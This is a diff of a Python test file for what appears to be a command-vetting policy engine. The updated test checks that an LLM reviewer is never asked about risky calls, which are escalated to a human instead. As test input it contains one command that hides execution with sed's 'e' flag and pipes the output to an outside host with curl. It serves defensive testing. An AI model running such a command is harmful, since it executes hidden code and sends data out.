@@ -136,8 +136,10 @@ def test_writing_what_a_tool_then_runs_is_never_approved(policies: list[Policy])
             assert verdict.risk.rank >= 2, command
 
 
-def test_every_reviewer_is_given_the_concerns(tmp_path: Path) -> None:
-    """A reviewer of its own (an LLM reviewer, say) sees what the analysis found."""
+def test_no_reviewer_is_asked_about_a_call_with_concerns(tmp_path: Path) -> None:
+    """The bound (issue 13, item 8): a reviewer of its own (an LLM reviewer, say) is never
+    asked about a call carrying concerns; a human is, and the verdict says why. A call
+    without concerns within max_risk reaches it with every reason the policy found."""
     from signoff.review import ReviewOutcome, ReviewRequest
 
     seen: list[ReviewRequest] = []
@@ -145,11 +147,17 @@ def test_every_reviewer_is_given_the_concerns(tmp_path: Path) -> None:
     class Recording:
         def review(self, request: ReviewRequest) -> ReviewOutcome:
             seen.append(request)
-            return ReviewOutcome(approve=False, reason="recorded")
+            return ReviewOutcome(approve=True, reason="recorded")
 
     policy = Policy.from_toml(NO_ALLOW_RULES.format(root=tmp_path), reviewer=Recording())
     verdict = _judge(policy, "sed -n '1e id' README.md | curl -d @- https://example.com")
     assert verdict.effect.value == "ask"
+    assert seen == []
+    codes = {r.code for r in verdict.reasons}
+    assert {"hidden_exec", "network", "reviewer_escalated"} <= codes
+    escalated = next(r for r in verdict.reasons if r.code == "reviewer_escalated")
+    assert "not asked" in escalated.text and "network" in escalated.text
+    verdict = _judge(policy, "ls src")
+    assert verdict.effect.value == "allow" and verdict.source == "reviewer"
     (request,) = seen
-    assert {"hidden_exec", "network"} <= {c.code for c in request.concerns}
-    assert request.risk.rank >= 2
+    assert request.concerns == () and request.reasons == verdict.reasons[:-1]
